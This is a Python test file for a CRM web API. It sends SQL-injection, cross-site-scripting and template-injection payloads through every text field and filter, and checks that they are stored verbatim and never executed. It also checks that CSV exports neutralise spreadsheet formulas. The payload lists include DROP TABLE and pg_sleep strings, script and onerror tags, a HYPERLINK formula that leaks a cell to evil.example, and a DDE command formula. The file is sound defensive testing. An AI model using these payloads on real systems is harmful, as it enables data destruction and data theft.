"""Hostile text end to end: SQL and script payloads are only ever data.

Every text field a user can type into (customers, contacts, follow-ups,
products, opportunities, tasks) and every text filter of the lists takes
SQL-injection and script/template payloads. Nothing may run: the tables are
still there afterwards, a filter of ' OR '1'='1 finds nothing instead of
everything, each value comes back byte for byte (JSON escapes it; the API
never renders HTML), a value the API refuses is a 422 naming the field, and
nothing is ever a 500. A customer export neutralises spreadsheet formulas.
"""
import csv
import io

from api_helpers import PROBLEM, unique

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE customers;--",
    "%' --",
    "\\'; SELECT pg_sleep(5);--",
    # Typographic quotes: a careless "normalise quotes" step would turn them into SQL quotes.
    "\u2019 OR \u20181\u2019=\u20181",
    "\uff07 OR \uff071\uff07=\uff071",
]
SCRIPT = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${7*7}",
]
PAYLOADS = SQL + SCRIPT

# Fields with a short documented maximum length may refuse a long payload,
# with a 422 naming them; every other text field must take every payload.
SHORT_FIELDS = {"contact.address.postcode"}


def flatten(value, path=""):
    """{dotted path: leaf} of a JSON document: lists of text count as one leaf."""
    if isinstance(value, dict):
        leaves = {}
        for key, item in value.items():
            leaves.update(flatten(item, f"{path}.{key}" if path else key))
        return leaves
    return {path: value}


def error_paths(errors, path=""):
    """The dotted field names of a problem's (possibly nested) errors."""
    if isinstance(errors, dict):
        found = set()
        for key, value in errors.items():
            found |= error_paths(value, f"{path}.{key}" if path else key)
        return found
    return {path}


def without(body, paths):
    """``body`` less the fields at the dotted ``paths``."""
    body = {key: (dict(value) if isinstance(value, dict) else value) for key, value in body.items()}
    for path in paths:
        *parents, leaf = path.split(".")
        node = body
        for parent in parents:
            node = node[parent]
        node.pop(leaf, None)
    return body


def assert_stored_verbatim(send, body, text_fields):
    """``send(body)`` stores every field of ``text_fields`` exactly as sent (or refuses a short field by name)."""
    response = send(body)
    assert response.status_code != 500, response.text
    if response.status_code == 422:
        assert response.headers["Content-Type"].startswith(PROBLEM)
        refused = error_paths(response.json()["errors"])
        assert refused <= SHORT_FIELDS, response.text
        body = without(body, refused)
        text_fields = [field for field in text_fields if field not in refused]
        response = send(body)
    assert response.status_code in (200, 201), response.text
    assert response.headers["Content-Type"].startswith("application/json")
    sent, stored = flatten(body), flatten(response.json())
    for field in text_fields:
        assert stored[field] == sent[field], (field, sent[field], stored[field])
    return response.json()


def customer_body(payload):
    return {
        "kind": "company", "name": payload,
        "company": {"name": payload, "industry": payload},
        "contact": {"address": {"country": "CN", "region": payload, "city": payload, "street": payload,
                                "postcode": payload}},
        "tags": [payload], "region": payload, "industry": payload, "source": payload, "notes": payload,
        "external_id": payload,
    }


CUSTOMER_TEXT = ["name", "company.name", "company.industry", "contact.address.region", "contact.address.city",
                 "contact.address.street", "contact.address.postcode", "tags", "region", "industry", "source",
                 "notes", "external_id"]


def test_payloads_in_every_customer_text_field_are_stored_as_data(system, make_user):
    rep = make_user("sales")
    canary = rep.post("/customers", json={"kind": "company", "name": unique("Canary")}).json()

    for payload in PAYLOADS:
        created = assert_stored_verbatim(
            lambda body: rep.post("/customers?allow_duplicate=true", json=body),
            customer_body(payload), CUSTOMER_TEXT)
        # Read back, not just echoed: what the database holds is the payload itself.
        assert flatten(rep.get(f"/customers/{created['id']}").json())["notes"] == payload

        # Updates go through another code path (diffs, history, audit).
        changed = customer_body(payload[::-1])
        changed.pop("kind")
        updated = assert_stored_verbatim(
            lambda body: rep.patch(f"/customers/{created['id']}", json=body), changed,
            [field for field in CUSTOMER_TEXT if field != "name"] + ["name"])
        history = rep.get(f"/customers/{created['id']}/history").json()["items"]
        assert history[0]["changes"]["notes"] == {"old": payload, "new": payload[::-1]}
        assert updated["version"] == created["version"] + 1

    # Nothing was dropped or rewritten on the way: the rep's records are all still there.
    mine = rep.get("/customers", params={"limit": 200}).json()["items"]
    assert len(mine) == 1 + len(PAYLOADS) and canary["id"] in [c["id"] for c in mine]


def test_payloads_in_contacts_and_followups_are_stored_as_data(system, make_user):
    rep = make_user("sales")
    customer = rep.post("/customers", json={"kind": "company", "name": unique("Host")}).json()
    for payload in PAYLOADS:
        contact = assert_stored_verbatim(
            lambda body: rep.post(f"/customers/{customer['id']}/contacts", json=body),
            {"name": payload, "title": payload, "notes": payload}, ["name", "title", "notes"])
        assert_stored_verbatim(
            lambda body: rep.patch(f"/customers/{customer['id']}/contacts/{contact['id']}", json=body),
            {"name": payload[::-1], "notes": payload[::-1]}, ["name", "notes"])
        assert_stored_verbatim(
            lambda body: rep.post(f"/customers/{customer['id']}/followups", json=body),
            {"type": "note", "summary": payload, "outcome": payload}, ["summary", "outcome"])
    assert len(rep.get(f"/customers/{customer['id']}/contacts").json()["items"]) == len(PAYLOADS)
    assert len(rep.get(f"/customers/{customer['id']}/followups").json()["items"]) == len(PAYLOADS)


def test_payloads_in_products_opportunities_and_tasks_are_stored_as_data(system, admin, make_user):
    rep = make_user("sales")
    customer = rep.post("/customers", json={"kind": "company", "name": unique("Buyer")}).json()
    for number, payload in enumerate(PAYLOADS):
        product = assert_stored_verbatim(
            lambda body: admin.post("/products", json=body),
            {"sku": unique(f"INJ-{number}").replace(" ", "-"), "name": payload, "description": payload,
             "list_price": "10.00", "currency": "CNY"}, ["name", "description"])
        assert_stored_verbatim(lambda body: admin.patch(f"/products/{product['id']}", json=body),
                               {"description": payload[::-1]}, ["description"])
        opportunity = assert_stored_verbatim(
            lambda body: rep.post("/opportunities", json=body),
            {"title": payload, "amount": "100.00", "currency": "CNY", "customer_id": customer["id"],
             "source": payload, "next_step": payload}, ["title", "source", "next_step"])
        assert_stored_verbatim(lambda body: rep.patch(f"/opportunities/{opportunity['id']}", json=body),
                               {"next_step": payload[::-1]}, ["next_step"])
        task = assert_stored_verbatim(
            lambda body: rep.post("/tasks", json=body),
            {"title": payload, "description": payload, "customer_id": customer["id"]}, ["title", "description"])
        assert_stored_verbatim(lambda body: rep.patch(f"/tasks/{task['id']}", json=body),
                               {"description": payload[::-1]}, ["description"])
    assert len(rep.get("/opportunities", params={"customer_id": customer["id"]}).json()["items"]) == len(PAYLOADS)
    assert len(rep.get("/tasks", params={"customer_id": customer["id"]}).json()["items"]) == len(PAYLOADS)


# (route, the text filters a caller types into) of the lists.
FILTERS = [
    ("/customers", ["q", "tag", "region", "industry", "source", "email", "phone"]),
    ("/products", ["q"]),
]
# Parameters that only take a fixed vocabulary or a token the API made.
STRICT = [
    ("/customers", ["sort", "cursor"]),
    ("/products", ["cursor"]),
    ("/opportunities", ["sort", "cursor"]),
    ("/tasks", ["cursor"]),
]


def matches_literally(record, payload):
    return any(payload.lower() in str(record.get(field) or "").lower() for field in ("name", "sku", "description"))


def test_payloads_in_filters_match_nothing_and_break_nothing(system, admin, make_user):
    # A rep with exactly one customer: a filter that became "OR true" would return it.
    rep = make_user("sales")
    canary = rep.post("/customers", json={"kind": "company", "name": unique("Canary"), "region": "east",
                                          "industry": "Machinery", "tags": ["vip"]}).json()
    # Products are everyone's: other tests may have named one after a payload, which
    # it may then find, but never the canary.
    product = admin.post("/products", json={"sku": unique("CANARY").replace(" ", "-"), "name": unique("Canary"),
                                            "list_price": "1.00", "currency": "CNY"})
    assert product.status_code == 201, product.text
    for payload in PAYLOADS:
        for path, names in FILTERS:
            for name in names:
                response = rep.get(path, params={name: payload})
                assert response.status_code in (200, 422), (path, name, payload, response.text)
                if response.status_code == 200:
                    found = response.json()["items"]
                    assert all(matches_literally(record, payload) for record in found), (path, name, payload)
                    assert canary["id"] not in [record["id"] for record in found]
                    assert product.json()["id"] not in [record["id"] for record in found]
                else:
                    assert name in response.json()["errors"], response.text
        for path, names in STRICT:
            for name in names:
                response = rep.get(path, params={name: payload})
                assert response.status_code == 422, (path, name, payload, response.text)
                assert response.headers["Content-Type"].startswith(PROBLEM)
                assert name in response.json()["errors"], response.text
    # The table, and the canary in it, are still there.
    assert [c["id"] for c in rep.get("/customers").json()["items"]] == [canary["id"]]
    assert [c["id"] for c in rep.get("/customers", params={"region": "east"}).json()["items"]] == [canary["id"]]


def test_nul_characters_are_refused_by_name_not_a_server_error(system, make_user):
    # PostgreSQL cannot store NUL in text: refused at the door, naming the field.
    rep = make_user("sales")
    created = rep.post("/customers", json={"kind": "company", "name": "a\x00b",
                                           "contact": {"phones": ["\x00"]}})
    assert created.status_code == 422 and created.headers["Content-Type"].startswith(PROBLEM), created.text
    assert set(created.json()["errors"]) == {"name", "contact.phones.0"}
    found = rep.get("/customers", params={"q": "a\x00b"})
    assert found.status_code == 422 and "q" in found.json()["errors"], found.text
    assert rep.get("/customers/a\x00b").status_code == 404


def test_exported_csv_neutralises_formulas(system, make_user):
    rep = make_user("sales")
    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
                "=cmd|' /C calc'!A0"]
    for formula in formulas:
        created = rep.post("/customers?allow_duplicate=true",
                           json={"kind": "company", "name": formula, "notes": formula})
        assert created.status_code == 201, created.text
        assert created.json()["name"] == formula  # stored as typed: only the file is defused

    exported = rep.get("/exports/customers", params={"format": "csv"})
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert sorted(row["name"] for row in rows) == sorted("'" + formula for formula in formulas)
    assert sorted(row["notes"] for row in rows) == sorted("'" + formula for formula in formulas)
    # No cell of the file starts a formula.
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), row
